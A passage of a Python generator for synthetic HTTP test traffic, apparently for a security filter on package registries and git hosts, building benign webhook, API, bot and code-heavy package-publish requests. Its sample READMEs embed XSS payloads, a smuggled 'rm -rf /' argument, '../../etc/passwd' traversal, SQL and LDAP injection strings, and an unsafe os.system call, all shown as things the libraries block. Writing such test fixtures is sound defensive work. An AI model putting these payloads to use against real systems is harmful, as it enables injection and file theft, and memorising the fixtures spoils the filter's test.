                                                 ["Content-Type", "application/x-git-receive-pack-request"]]), cmds + pack)


# ===========================================================================
# BENIGN: GitHub / GitLab / Gitea APIs and webhooks
# ===========================================================================

COMMIT_MSGS = [
    "fix XSS in package README renderer (#1432)",
    "drop table support for SQLite < 3.35",
    "Revert \"select: use UNION ALL instead of UNION\"\n\nThis reverts commit 4f2c1ab.",
    "docs: explain ../ relative imports in the monorepo",
    "chore(deps): update dependency lodash to v4.17.21",
    "feat(cli): add --exec flag to run scripts after install",
    "refactor: move src/../lib helpers into lib/",
    "fix: escape angle brackets in badge alt text",
    "perf: avoid SELECT * in the dependency resolver",
    "security: reject tarballs with ../ entries (zip slip)",
    "ci: cache ~/.npm and ~/.cache/pip between jobs",
    "Merge pull request #88 from jonas/select-where\n\nselect: support WHERE ... IN (...)",
    "build(docker): pin node:20-alpine by digest",
    "i18n: ajoute la traduction française du README",
    "fix(auth): handle tokens with '=' padding in Authorization header",
    "feat: support ${VAR} interpolation in .npmrc",
]
CHANGED_FILES = ["src/db/select.ts", "lib/shell.js", "README.md", "migrations/0042_drop_legacy.sql", "package.json",
                 "charts/acme-api/templates/deployment.yaml", "src/renderer/markdown.py", ".github/workflows/ci.yml",
                 "docs/../README.md", "packages/ui-kit/src/components/Badge.tsx", "go.mod", "Cargo.lock"]


def gh_push_payload(repo, branch, n=2):
    commits = []
    for _ in range(n):
        who = pick(PEOPLE)
        commits.append({"id": rhex(40), "tree_id": rhex(40), "distinct": True, "message": pick(COMMIT_MSGS),
                        "timestamp": "2026-11-30T1%d:%02d:%02d+01:00" % (R.randrange(10), R.randrange(60), R.randrange(60)),
                        "url": "https://github.com/%s/commit/%s" % (repo, rhex(40)),
                        "author": {"name": who[0], "email": who[1], "username": who[1].split("@")[0]},
                        "committer": {"name": "GitHub", "email": "noreply@github.com", "username": "web-flow"},
                        "added": R.sample(CHANGED_FILES, 1), "removed": [], "modified": R.sample(CHANGED_FILES, 2)})
    return {"ref": "refs/heads/" + branch, "before": rhex(40), "after": rhex(40),
            "repository": {"id": R.randint(10 ** 8, 9 * 10 ** 8), "name": repo.split("/")[1], "full_name": repo, "private": True,
                           "html_url": "https://github.com/" + repo, "default_branch": "main"},
            "pusher": {"name": commits[0]["author"]["username"], "email": commits[0]["author"]["email"]},
            "sender": {"login": commits[0]["author"]["username"], "type": "User"},
            "created": False, "deleted": False, "forced": False, "compare": "https://github.com/%s/compare/%s...%s" % (repo, rhex(12), rhex(12)),
            "commits": commits, "head_commit": commits[-1]}


def gh_hook_headers(event, body, host="ci.example.com"):
    return [["Host", host], ["User-Agent", "GitHub-Hookshot/%s" % rhex(7)], ["Accept", "*/*"], ["X-GitHub-Delivery", uuid4()],
            ["X-GitHub-Event", event], ["X-GitHub-Hook-ID", str(R.randint(10 ** 8, 9 * 10 ** 8))],
            ["X-GitHub-Hook-Installation-Target-Type", "repository"],
            ["X-Hub-Signature-256", "sha256=" + hashlib.sha256(body.encode()).hexdigest()]]


def gh_api_headers(host="api.github.com", ua=None, accept="application/vnd.github+json"):
    return [["Host", host], ["User-Agent", ua or pick(["gh/2.59.0", "octokit-rest.js/21.0.2 octokit-core.js/6.1.2 Node.js/20", "PyGithub/Python"])],
            ["Accept", accept], ["Authorization", "Bearer " + pick(["ghp_", "github_pat_11A", "ghs_"]) + ralnum(36)],
            ["X-GitHub-Api-Version", "2022-11-28"]]


def gl_headers(host="gitlab.example.com", extra=()):
    hs = [["Host", host], ["User-Agent", pick(["python-gitlab/4.13.0", "glab/1.47.0", "curl/8.5.0"])], ["Accept", "application/json"],
          ["PRIVATE-TOKEN", "glpat-" + ralnum(20)]]
    hs.extend([list(e) for e in extra])
    return hs


def benign_hosting():
    for i in range(8):
        repo = pick(REPOS)
        body = json.dumps(gh_push_payload(repo, pick(BRANCHES), R.randint(1, 3)))
        req("benign", "gh-webhook-push", "POST", pick(["/github-webhook/", "/hooks/github", "/api/v1/webhooks/github?project=%s" % q(repo, safe="")]),
            gh_hook_headers("push", body, pick(["ci.example.com", "jenkins.acme-internal.dev", "packagist.org", "readthedocs.org"])), body, "application/json")
    for i in range(4):
        repo = pick(REPOS)
        p = gh_push_payload(repo, pick(BRANCHES))
        body = json.dumps({"object_kind": "push", "event_name": "push", "before": p["before"], "after": p["after"], "ref": p["ref"],
                           "user_username": p["pusher"]["name"], "project_id": R.randint(10, 9000),
                           "project": {"path_with_namespace": repo, "web_url": "https://gitlab.example.com/" + repo, "default_branch": "main"},
                           "commits": [{"id": c["id"], "message": c["message"], "title": c["message"].split("\n")[0], "timestamp": c["timestamp"],
                                        "author": {"name": c["author"]["name"], "email": c["author"]["email"]},
                                        "added": c["added"], "modified": c["modified"], "removed": []} for c in p["commits"]],
                           "total_commits_count": len(p["commits"])})
        req("benign", "gitlab-webhook-push", "POST", "/project/%s" % repo.split("/")[1],
            [["Host", "jenkins.acme-internal.dev"], ["User-Agent", "GitLab/17.5.1"], ["X-Gitlab-Event", "Push Hook"],
             ["X-Gitlab-Token", ralnum(32)], ["X-Gitlab-Instance", "https://gitlab.example.com"],
             ["X-Gitlab-Event-UUID", uuid4()]], body, "application/json")
    for i in range(3):
        p = gh_push_payload(pick(REPOS), pick(BRANCHES))
        body = json.dumps({"ref": p["ref"], "before": p["before"], "after": p["after"], "compare_url": p["compare"],
                           "commits": [{"id": c["id"], "message": c["message"] + "\n", "url": c["url"],
                                        "author": {"name": c["author"]["name"], "email": c["author"]["email"], "username": ""},
                                        "verification": None, "timestamp": c["timestamp"], "added": c["added"], "removed": None,
                                        "modified": c["modified"]} for c in p["commits"]],
                           "repository": {"full_name": p["repository"]["full_name"], "private": True}, "pusher": {"login": p["pusher"]["name"]}})
        req("benign", "gitea-webhook-push", "POST", "/hooks/gitea",
            [["Host", "drone.example.dev"], ["User-Agent", "Go-http-client/1.1"], ["X-Gitea-Event", "push"], ["X-Gitea-Delivery", uuid4()],
             ["X-Gitea-Signature", hashlib.sha256(body.encode()).hexdigest()], ["X-Gogs-Event", "push"]], body, "application/json")
    pr_bodies = [
        "## Summary\n\nFixes the XSS in the README renderer: we now run `sanitize-html` on the output.\n\n## Checklist\n\n- [x] tests\n- [x] changelog\n- [ ] docs\n",
        "This drops support for Node 16. See the table:\n\n| Node | Status |\n|---|---|\n| 16 | ❌ dropped |\n| 18 | ✅ |\n| 20 | ✅ |\n",
        "Closes #301.\n\nRenames `src/../lib/util.js` imports to `lib/util.js` so bundlers stop complaining.\n",
    ]
    for b in pr_bodies:
        repo = pick(REPOS)
        body = json.dumps({"action": "opened", "number": R.randint(1, 900),
                           "pull_request": {"title": b.split("\n")[2][:60] if b.startswith("##") else b.split("\n")[0][:60], "body": b,
                                            "head": {"ref": pick(BRANCHES), "sha": rhex(40)}, "base": {"ref": "main", "sha": rhex(40)},
                                            "draft": False, "user": {"login": pick(PEOPLE)[1].split("@")[0]}},
                           "repository": {"full_name": repo}})
        req("benign", "gh-webhook-pr", "POST", "/github-webhook/", gh_hook_headers("pull_request", body), body, "application/json")
    repo = pick(REPOS)
    content = "# Billing API\n\nRun `make db-reset` to DROP and re-create the local schema.\n"
    gh = [
        ("GET", "/repos/%s/contents/%s?ref=main" % (repo, q("src/db/select.py", safe="")), None, "application/vnd.github.raw+json"),
        ("GET", "/repos/%s/compare/main...%s" % (repo, q(BRANCHES[1], safe="/")), None, "application/vnd.github.diff"),
        ("GET", "/repos/%s/pulls?state=open&sort=updated&direction=desc&per_page=50" % repo, None, None),
        ("POST", "/repos/%s/issues/%d/comments" % (repo, R.randint(1, 400)),
         json.dumps({"body": "LGTM 👍 — thanks for fixing the XSS in the badge renderer. Could you add a changelog entry under *Security*?"}), None),
        ("POST", "/repos/%s/releases" % repo, json.dumps({"tag_name": "v1.4.2", "target_commitish": "main", "name": "v1.4.2",
                                                           "body": "### Fixes\n- drop table support for legacy SQLite\n- fix path handling for `../` in workspace globs\n",
                                                           "draft": False, "prerelease": False, "generate_release_notes": False}), None),
        ("GET", "/repos/%s/commits/%s" % (repo, rhex(40)), None, "application/vnd.github.patch"),
        ("PUT", "/repos/%s/contents/README.md" % repo, json.dumps({"message": "docs: mention make db-reset", "content": b64(content),
                                                                    "sha": rhex(40), "branch": "main",
                                                                    "committer": {"name": "Priya Raman", "email": "priya@raman.io"}}), None),
        ("POST", "/graphql", json.dumps({"query": "query($owner:String!,$name:String!){ repository(owner:$owner,name:$name){ pullRequests(first:20,states:OPEN){ nodes { number title headRefName } } } }",
                                         "variables": {"owner": repo.split("/")[0], "name": repo.split("/")[1]}}), None),
        ("GET", "/search/code?q=%s&per_page=30" % qp('"DROP TABLE" language:SQL repo:%s' % repo), None, None),
    ]
    for m, p, body, acc in gh:
        req("benign", "gh-api", m, p, gh_api_headers(accept=acc or "application/vnd.github+json"), body,
            "application/json" if body else None)
    gl = [
        ("GET", "/api/v4/projects/%s/repository/files/%s/raw?ref=main" % (q("acme/billing", safe=""), q("src/db/select.py", safe="")), None),
        ("POST", "/api/v4/projects/42/merge_requests", json.dumps({"source_branch": BRANCHES[2], "target_branch": "main",
                                                                   "title": "Draft: drop table support for legacy SQLite",
                                                                   "description": "Removes the `--legacy-sqlite` code path.\n\n/label ~database ~breaking",
                                                                   "remove_source_branch": True, "squash": True})),
        ("GET", "/api/v4/projects/42/repository/compare?from=v1.4.1&to=v1.4.2&straight=false", None),
        ("GET", "/api/v4/projects/42/packages?package_type=npm&order_by=created_at&sort=desc", None),
    ]
    for m, p, body in gl:
        req("benign", "gitlab-api", m, p, gl_headers(), body, "application/json" if body else None)
    ge = [
        ("GET", "/api/v1/repos/acme/billing/raw/src%2Fdb%2Fselect.py?ref=main", None),
        ("POST", "/api/v1/repos/acme/billing/issues/3/comments", json.dumps({"body": "Reproduced on 1.22.3: the `../` in the import path is resolved relative to `src/`, not the repo root."})),
        ("POST", "/api/v1/repos/migrate", json.dumps({"clone_addr": "https://github.com/acme/sql-select-builder.git", "repo_name": "sql-select-builder",
                                                      "repo_owner": "oss", "service": "github", "mirror": True, "mirror_interval": "8h0m0s",
                                                      "issues": False, "wiki": False, "private": False})),
        ("GET", "/api/v1/repos/search?q=select&topic=false&includeDesc=true&limit=20&page=1", None),
    ]
    for m, p, body in ge:
        req("benign", "gitea-api", m, p, [["Host", "gitea.example.dev"], ["User-Agent", pick(["tea/0.9.2", "Go-http-client/1.1", "curl/8.5.0"])],
                                          ["Accept", "application/json"], ["Authorization", "token " + rhex(40)]], body,
            "application/json" if body else None)


# ===========================================================================
# BENIGN: Renovate / Dependabot
# ===========================================================================

def benign_bots():
    looks = [
        ("registry.npmjs.org", "/" + npm_enc("@nestjs/common"), "application/json"),
        ("pypi.org", "/pypi/sqlalchemy/json", "application/json"),
        ("registry-1.docker.io", "/v2/library/node/tags/list?n=10000", "application/json"),
        ("api.github.com", "/repos/hashicorp/terraform-provider-aws/releases?per_page=100", "application/vnd.github+json"),
        ("proxy.golang.org", "/github.com/%s/@v/list" % go_escape("BurntSushi/toml"), "*/*"),
        ("index.crates.io", "/se/rd/serde", "*/*"),
    ]
    for host, p, acc in looks:
        hs = [["Host", host], ["User-Agent", RENOVATE_UA], ["Accept", acc], ["Accept-Encoding", "gzip, deflate, br"]]
        if host == "api.github.com":
            hs.append(["Authorization", "token ghs_" + ralnum(36)])
        req("benign", "renovate-lookup", "GET", p, hs)
    for i in range(2):
        dep, old, new = pick([("lodash", "4.17.20", "4.17.21"), ("django", "5.1.1", "5.1.2"), ("hashicorp/aws", "~> 5.69", "~> 5.70")])
        body = json.dumps({"title": "chore(deps): update dependency %s to v%s" % (dep, new), "head": "renovate/%s-%s" % (dep.replace("/", "-"), new.split(".")[0].strip("~> ")),
                           "base": "main", "maintainer_can_modify": False,
                           "body": ("This PR contains the following updates:\n\n| Package | Change | Age | Confidence |\n|---|---|---|---|\n"
                                    "| [%s](https://github.com/%s) | `%s` -> `%s` | [![age](https://developer.mend.io/api/mc/badges/age/npm/%s/%s?slim=true)](https://docs.renovatebot.com/merge-confidence/) | "
                                    "[![confidence](https://developer.mend.io/api/mc/badges/confidence/npm/%s/%s/%s?slim=true)](https://docs.renovatebot.com/merge-confidence/) |\n\n---\n\n"
                                    "### Configuration\n\n📅 **Schedule**: Branch creation - At any time (no schedule defined).\n\n"
                                    "🚦 **Automerge**: Disabled by config. Please merge this manually once you are satisfied.\n\n"
                                    "- [ ] <!-- rebase-check -->If you want to rebase/retry this PR, check this box\n\n"
                                    "<!--renovate-debug:%s-->\n") % (dep, dep, old, new, dep, new, dep, old, new, b64(json.dumps({"createdInVer": "38.110.2", "updatedInVer": "38.110.2"})))})
        req("benign", "renovate-pr", "POST", "/repos/%s/pulls" % pick(REPOS), gh_api_headers(ua=RENOVATE_UA), body, "application/json")
    dl = [("pypi.org", "/simple/requests/", PIP_ACCEPT), ("registry.acme-internal.dev", "/v2/acme/payments-api/tags/list", "application/json"),
          ("rubygems.org", "/api/v1/versions/nokogiri.json", "application/json")]
    for host, p, acc in dl:
        req("benign", "dependabot-lookup", "GET", p, [["Host", host], ["User-Agent", DEPENDABOT_UA], ["Accept", acc], ["Accept-Encoding", "gzip"]])
    req("benign", "dependabot-comment", "POST", "/repos/acme/billing/issues/512/comments", gh_api_headers(ua="gh/2.59.0"),
        json.dumps({"body": "@dependabot rebase"}), "application/json")
    for i in range(3):
        body = json.dumps({"action": pick(["opened", "synchronize", "closed"]), "number": 500 + i,
                           "pull_request": {"title": "Bump requests from 2.31.0 to 2.32.3 in /services/api",
                                            "body": "Bumps [requests](https://github.com/psf/requests) from 2.31.0 to 2.32.3.\n<details>\n<summary>Release notes</summary>\n"
                                                    "<p><em>Sourced from <a href=\"https://github.com/psf/requests/releases\">requests's releases</a>.</em></p>\n"
                                                    "<blockquote>\n<h2>v2.32.3</h2>\n<h2>2.32.3 (2024-05-29)</h2>\n<p><strong>Bugfixes</strong></p>\n<ul>\n"
                                                    "<li>Fixed bug breaking the ability to specify custom SSLContexts in sub-classes of HTTPAdapter. (<a href=\"https://redirect.github.com/psf/requests/issues/6716\">#6716</a>)</li>\n"
                                                    "</ul>\n</blockquote>\n</details>\n<br />\n\n[![Dependabot compatibility score](https://dependabot-badges.githubapp.com/badges/compatibility_score?dependency-name=requests&package-manager=pip&previous-version=2.31.0&new-version=2.32.3)](https://docs.github.com/en/github/managing-security-vulnerabilities/about-dependabot-security-updates#about-compatibility-scores)\n",
                                            "head": {"ref": "dependabot/pip/services/api/requests-2.32.3"}, "user": {"login": "dependabot[bot]", "type": "Bot"}},
                           "sender": {"login": "dependabot[bot]", "type": "Bot"}, "repository": {"full_name": "acme/billing"}})
        req("benign", "dependabot-webhook", "POST", "/github-webhook/", gh_hook_headers("pull_request", body), body, "application/json")
    req("benign", "renovate-lookup", "GET", "/v1/providers/hashicorp/aws/versions",
        [["Host", "registry.terraform.io"], ["User-Agent", RENOVATE_UA], ["Accept", "application/json"]])


# ===========================================================================
# DEV-CONTENT (exactly 50, expect pass): code-heavy but legitimate content
# ===========================================================================

def _dev_npm(slug, name, ver, desc, readme, scripts=None):
    pj, tgz = npm_tarball(name, ver, desc, scripts)
    host = pick(NPM_HOSTS)
    base = name.split("/")[-1]
    v = dict(pj)
    v.update({"_id": "%s@%s" % (name, ver), "readme": readme, "readmeFilename": "README.md",
              "dist": {"integrity": sha512_b64(tgz), "shasum": hashlib.sha1(tgz).hexdigest(),
                       "tarball": "https://%s/%s/-/%s-%s.tgz" % (host, name, base, ver)}})
    body = {"_id": name, "name": name, "description": desc, "dist-tags": {"latest": ver}, "versions": {ver: v},
            "access": "public", "_attachments": {"%s-%s.tgz" % (name, ver): {"content_type": "application/octet-stream",
                                                                           "data": b64(tgz), "length": len(tgz)}}}
    req("dev-content", slug, "PUT", "/" + npm_enc(name), npm_headers(host, cmd="publish", auth=True, accept="*/*"),
        json.dumps(body), "application/json")


def _dev_pypi(slug, name, ver, summary, desc):
    whl = make_wheel(name, ver, summary)
    fields = [(":action", "file_upload"), ("protocol_version", "1"), ("metadata_version", "2.3"), ("name", name),
              ("version", ver), ("filetype", "bdist_wheel"), ("pyversion", "py3"), ("summary", summary),
              ("description", desc), ("description_content_type", "text/markdown"), ("author", pick(PEOPLE)[0]),
              ("license", "MIT"), ("classifiers", "Programming Language :: Python :: 3"),
              ("sha256_digest", sha256_of(whl)),
              ("content", "%s-%s-py3-none-any.whl" % (py_norm(name).replace("-", "_"), ver), "application/octet-stream", whl)]
    bnd, body = multipart_bytes(fields)
    raw("dev-content", slug, "POST", "/legacy/",
        [["Host", "upload.pypi.org"], ["User-Agent", pick(TWINE_UAS)], ["Accept", "*/*"],
         ["Authorization", "Basic " + b64("__token__:pypi-AgEIcHlwaS5vcmc" + ralnum(60))],
         ["Content-Type", "multipart/form-data; boundary=" + bnd]], body)


def _dev_gh_comment(slug, body, kind="issues"):
    repo = pick(REPOS)
    path = "/repos/%s/issues/%d/comments" % (repo, R.randint(1, 900)) if kind == "issues" else \
        "/repos/%s/pulls/%d/comments" % (repo, R.randint(1, 900))
    payload = {"body": body}
    if kind != "issues":
        payload.update({"commit_id": rhex(40), "path": pick(CHANGED_FILES), "line": R.randint(5, 200), "side": "RIGHT"})
    req("dev-content", slug, "POST", path, gh_api_headers(ua=pick(BROWSERS[:1] + ["gh/2.59.0"])), json.dumps(payload), "application/json")


def _dev_gl_note(slug, body, mr=True):
    path = "/api/v4/projects/42/merge_requests/%d/notes" % R.randint(1, 300) if mr else "/api/v4/projects/42/issues/%d/notes" % R.randint(1, 300)
    req("dev-content", slug, "POST", path, gl_headers(), json.dumps({"body": body}), "application/json")


def _dev_gitea(slug, title, body):
    req("dev-content", slug, "POST", "/api/v1/repos/acme/billing/issues",
        [["Host", "gitea.example.dev"], ["User-Agent", pick(BROWSERS)], ["Accept", "application/json"],
         ["Authorization", "token " + rhex(40)], ["Origin", "https://gitea.example.dev"]],
        json.dumps({"title": title, "body": body, "labels": [R.randint(1, 12)]}), "application/json")


def _dev_art_put(slug, path, content, ctype):
    req("dev-content", slug, "PUT", path, art_headers(extra=[["X-Checksum-Sha256", sha256_of(content.encode())]], ua="jfrog-cli-go/2.67.0"),
        content, ctype)


FENCE = "```"


def devcontent_npm():
    _dev_npm("npm-readme-sanitizer", "safe-html-lite", "2.3.0", "Whitelist-based HTML sanitizer for user content",
             "# safe-html-lite\n\nStrips everything that is not on the allow-list.\n\n" + FENCE + "js\nimport { sanitize } from 'safe-html-lite';\n\n"
             "sanitize('<b>hello</b><img src=x onerror=alert(1)>');\n// => '<b>hello</b><img src=\"x\">'\n\n"
             "sanitize('<a href=\"javascript:alert(1)\">click</a>');\n// => '<a>click</a>'\n\n"
             "sanitize('<svg><script>alert(document.domain)</script></svg>');\n// => ''\n" + FENCE + "\n\n"
             "## Options\n\n| option | default |\n|---|---|\n| `allowedTags` | `['b','i','a','img','p']` |\n| `allowedSchemes` | `['http','https','mailto']` |\n")
    _dev_npm("npm-readme-templates", "tiny-ejs", "1.0.4", "Embedded JavaScript templates in 2 kB",
             "# tiny-ejs\n\n" + FENCE + "html\n<ul>\n<% users.forEach(function (user) { %>\n  <li><%= user.name %> (<%- include('badge', { role: user.role }) %>)</li>\n<% }); %>\n</ul>\n" + FENCE + "\n\n"
             "`<%= %>` escapes HTML, `<%- %>` outputs raw HTML – never use it with untrusted input.\n\n" + FENCE + "js\nconst tpl = compile(fs.readFileSync('./views/list.ejs', 'utf8'));\nres.send(tpl({ users }));\n" + FENCE + "\n")
    _dev_npm("npm-readme-exec", "shell-run-lite", "0.8.1", "Promise-based child_process wrapper with streaming",
             "# shell-run-lite\n\n" + FENCE + "js\nimport { run, $ } from 'shell-run-lite';\n\nconst { stdout } = await run('git', ['log', '--oneline', '-n', '5']);\n"
             "await $`rm -rf ./dist && mkdir -p ./dist`;\nawait $`cat package.json | jq .version`;\n\n// arguments are escaped for you\nconst file = \"my file; rm -rf /\";\nawait $`ls -la ${file}`; // runs: ls -la 'my file; rm -rf /'\n" + FENCE + "\n\n"
             "Under the hood this calls `child_process.spawn(cmd, args, { shell: false })`.\n")
    _dev_npm("npm-readme-sqltag", "@sql-kit/tag", "3.0.0", "Tagged template literals for safe SQL",
             "# @sql-kit/tag\n\n" + FENCE + "ts\nimport sql from '@sql-kit/tag';\n\nconst id = req.params.id;            // e.g. \"1' OR '1'='1\"\n"
             "const q = sql`SELECT id, name FROM users WHERE id = ${id} AND deleted_at IS NULL`;\n// q.text   === 'SELECT id, name FROM users WHERE id = $1 AND deleted_at IS NULL'\n// q.values === [\"1' OR '1'='1\"]\n\n"
             "const report = sql`\n  SELECT name FROM packages WHERE scope = ${scope}\n  UNION ALL\n  SELECT name FROM legacy_packages WHERE scope = ${scope}\n  ORDER BY name LIMIT ${limit}`;\n" + FENCE + "\n\n"
             "Identifiers go through `sql.ident('users')`; `DROP TABLE` and friends are never generated for you.\n")
    _dev_npm("npm-readme-react", "@acme/rich-text", "5.2.0", "Rich text renderer for React",
             "# @acme/rich-text\n\n" + FENCE + "jsx\nexport function Preview({ html }) {\n  const clean = useMemo(() => purify(html), [html]);\n"
             "  return <div className=\"preview\" dangerouslySetInnerHTML={{ __html: clean }} />;\n}\n\n<button onClick={() => alert('saved!')}>Save</button>\n" + FENCE + "\n\n"
             "<details><summary>Why not innerHTML?</summary>\n\nBecause `el.innerHTML = userInput` is how XSS happens.\n</details>\n")
    _dev_npm("npm-readme-helmet", "express-secure-headers", "4.1.0", "Security headers for Express",
             "# express-secure-headers\n\n" + FENCE + "js\nconst express = require('express');\nconst secure = require('express-secure-headers');\n\nconst app = express();\n"
             "app.use(secure({\n  contentSecurityPolicy: \"default-src 'self'; script-src 'self' 'nonce-r4nd0m'; object-src 'none'; base-uri 'none'\",\n"
             "  frameguard: 'deny',\n  hsts: { maxAge: 63072000, includeSubDomains: true, preload: true },\n}));\n" + FENCE + "\n\n"
             "Sends `X-Content-Type-Options: nosniff`, `Referrer-Policy: no-referrer` and friends.\n")
    _dev_npm("npm-readme-handlebars", "hbs-helpers-plus", "0.12.0", "50+ helpers for Handlebars",
             "# hbs-helpers-plus\n\n" + FENCE + "handlebars\n{{#each packages}}\n  <tr>\n    <td>{{this.name}}</td>\n    <td>{{formatDate this.published \"YYYY-MM-DD\"}}</td>\n"
             "    <td>{{{markdown this.description}}}</td>\n  </tr>\n{{else}}\n  <tr><td colspan=\"3\">No packages</td></tr>\n{{/each}}\n" + FENCE + "\n\n"
             "Triple-stash `{{{ }}}` output is not escaped. The `markdown` helper sanitizes for you.\n")
    _dev_npm("npm-readme-paths", "path-resolve-safe", "1.1.2", "Resolve paths without escaping a root directory",
             "# path-resolve-safe\n\n" + FENCE + "js\nconst { resolveInside } = require('path-resolve-safe');\n\nresolveInside('/srv/uploads', 'a/b.txt');          // '/srv/uploads/a/b.txt'\n"
             "resolveInside('/srv/uploads', '../../etc/passwd');   // throws PathEscapeError\nresolveInside('/srv/uploads', '..%2f..%2fetc');      // throws (decoded first)\n"
             "path.join(__dirname, '../config/default.json');       // fine, not user input\n" + FENCE + "\n")
    _dev_npm("npm-readme-dockerfile", "dockerfile-gen", "0.4.0", "Generate Dockerfiles from package.json",
             "# dockerfile-gen\n\nOutput for a typical app:\n\n" + FENCE + "dockerfile\nFROM node:20-bookworm-slim AS build\nWORKDIR /app\n"
             "RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \\\n && curl -fsSL https://get.pnpm.io/install.sh | sh - \\\n && rm -rf /var/lib/apt/lists/*\n"
             "COPY package.json pnpm-lock.yaml ./\nRUN pnpm install --frozen-lockfile\nCOPY . .\nRUN pnpm run build\n\nFROM gcr.io/distroless/nodejs20-debian12\nCOPY --from=build /app/dist /app\n"
             "USER 65532:65532\nCMD [\"/app/server.js\"]\n" + FENCE + "\n",
             scripts={"build": "tsc", "postinstall": "node ./scripts/check-docker.js"})
    _dev_npm("npm-readme-mongo", "mongo-filter-builder", "2.0.1", "Type-safe MongoDB filter builder",
             "# mongo-filter-builder\n\n" + FENCE + "ts\nconst filter = where('age').gt(18).and('name').regex(/^A/i).build();\n"
             "// => { age: { $gt: 18 }, name: { $regex: '^A', $options: 'i' } }\n\nwhere('tags').in(['sql', 'nosql']).build();\n// => { tags: { $in: ['sql', 'nosql'] } }\n" + FENCE + "\n\n"
             "`$where` is deliberately not supported: it runs JavaScript on the server.\nUser input is never spread into the filter, so `{\"$ne\": null}` arrives as a plain string.\n")
    _dev_npm("npm-readme-scaffold", "create-acme-app", "1.9.0", "Scaffold a new Acme app",
             "# create-acme-app\n\n" + FENCE + "sh\nnpx create-acme-app@latest my-app && cd my-app && npm run dev\n# or non-interactive\n"
             "npm init acme-app -- --template=api --db=postgres --yes\n" + FENCE + "\n\nTemplates use EJS:\n\n" + FENCE + "json\n{\n  \"name\": \"<%= projectName %>\",\n"
             "  \"scripts\": { \"dev\": \"node --watch src/index.js\", \"migrate\": \"knex migrate:latest\" }\n}\n" + FENCE + "\n")


def devcontent_pypi():
    _dev_pypi("pypi-desc-migrations", "pg-migrate-lite", "0.6.0", "Plain-SQL migrations for PostgreSQL",
              "# pg-migrate-lite\n\nWrite migrations as plain SQL files:\n\n" + FENCE + "sql\n-- 0007_packages.up.sql\nCREATE TABLE packages (\n  id bigserial PRIMARY KEY,\n"
              "  name text NOT NULL UNIQUE,\n  created_at timestamptz DEFAULT now()\n);\nCREATE INDEX packages_name_trgm ON packages USING gin (name gin_trgm_ops);\n\n"
              "-- 0007_packages.down.sql\nDROP TABLE IF EXISTS packages CASCADE;\n" + FENCE + "\n\n" + FENCE + "console\n$ pg-migrate up --dsn postgres://app@localhost:5432/app\n$ pg-migrate down 1\n" + FENCE + "\n")
    _dev_pypi("pypi-desc-sqlformat", "sql-pretty", "1.3.2", "Format and lint SQL",
              "# sql-pretty\n\n" + FENCE + "python\n>>> import sql_pretty\n>>> print(sql_pretty.format(\"select a,b from t where id in (select id from u union select 1) order by 1\"))\n"
              "SELECT a,\n       b\nFROM t\nWHERE id IN (SELECT id FROM u\n             UNION\n             SELECT 1)\nORDER BY 1\n" + FENCE + "\n\n"
              "Lint rule `L044` warns about `SELECT *`; `L059` about `OR 1=1`-style tautologies left over from debugging.\n")
    _dev_pypi("pypi-desc-jinja", "jinja2-humanize-ext", "0.9.0", "Humanize filters for Jinja2",
              "# jinja2-humanize-ext\n\n" + FENCE + "jinja\n{% extends \"base.html\" %}\n{% block content %}\n<ul>\n{% for pkg in packages %}\n"
              "  <li>{{ pkg.name | e }} – {{ pkg.downloads | intcomma }} downloads, {{ pkg.updated | naturaltime }}</li>\n{% endfor %}\n</ul>\n{% endblock %}\n" + FENCE + "\n\n"
              + FENCE + "python\nenv = Environment(autoescape=select_autoescape(), extensions=['jinja2_humanize_ext.HumanizeExtension'])\n" + FENCE + "\n")
    _dev_pypi("pypi-desc-shell", "subprocess-tee", "0.5.1", "Run commands, stream and capture output",
              "# subprocess-tee\n\n" + FENCE + "python\nfrom subprocess_tee import run\n\nresult = run([\"bash\", \"-c\", \"echo $HOME && ls -la /tmp | head -n 5\"], tee=True)\n"
              "assert result.returncode == 0\n\n# never do this with user input:\nos.system(\"tar -xzf \" + filename)\n# do this instead:\nrun([\"tar\", \"-xzf\", filename])\n" + FENCE + "\n")
    _dev_pypi("pypi-desc-semgrep", "registry-semgrep-rules", "2026.11.0", "Semgrep rules for registry backends",
              "# registry-semgrep-rules\n\nRule `py-sqli-concat` flags:\n\n" + FENCE + "python\ncursor.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\")\n" + FENCE + "\n\n"
              "and suggests:\n\n" + FENCE + "python\ncursor.execute(\"SELECT * FROM users WHERE name = %s\", (name,))\n" + FENCE + "\n\n"
              "Rule `py-tarfile-traversal` flags `tar.extractall(dest)` without `filter='data'` (members like `../../etc/cron.d/x`).\n")
    _dev_pypi("pypi-desc-django", "django-registry-ui", "3.1.0", "Django admin theme for package registries",
              "# django-registry-ui\n\n" + FENCE + "python\nINSTALLED_APPS = [\"registry_ui\", \"django.contrib.admin\", ...]\n"
              "urlpatterns = [path(\"admin/\", admin.site.urls), path(\"pkg/<str:name>/\", views.package)]\n" + FENCE + "\n\n"
              + FENCE + "html+django\n{% load static %}\n<link rel=\"stylesheet\" href=\"{% static 'registry_ui/app.css' %}\">\n<script src=\"{% static 'registry_ui/app.js' %}\" defer></script>\n"
              "<a href=\"{% url 'admin:index' %}\">{{ request.user.get_username }}</a>\n" + FENCE + "\n")
    _dev_pypi("pypi-desc-ansible", "ansible-registry-tools", "1.4.0", "Ansible helpers for self-hosted registries",
              "# ansible-registry-tools\n\n" + FENCE + "yaml\n- name: Check OS\n  ansible.builtin.shell: cat /etc/os-release | grep ^ID=\n  register: os_id\n  changed_when: false\n\n"
              "- name: Install Verdaccio\n  become: true\n  ansible.builtin.command: npm install -g verdaccio@6\n\n- name: Template config\n  ansible.builtin.template:\n"
              "    src: config.yaml.j2\n    dest: /etc/verdaccio/config.yaml\n    mode: \"0640\"\n" + FENCE + "\n")
    _dev_pypi("pypi-desc-ldap", "ldap-auth-helper", "0.3.0", "Small LDAP authentication helper",
              "# ldap-auth-helper\n\n" + FENCE + "python\nfrom ldap3.utils.conv import escape_filter_chars\n\n"
              "flt = \"(&(objectClass=person)(uid={}))\".format(escape_filter_chars(username))\nconn.search(\"ou=people,dc=example,dc=com\", flt, attributes=[\"cn\", \"mail\", \"memberOf\"])\n" + FENCE + "\n\n"
              "Without escaping, a username like `*)(uid=*` would match every entry.\n")
    _dev_pypi("pypi-desc-flask", "flask-package-pages", "0.2.4", "Package landing pages for Flask",
              "# flask-package-pages\n\n" + FENCE + "python\nfrom flask import Flask, render_template\nfrom markupsafe import escape\n\napp = Flask(__name__)\n\n"
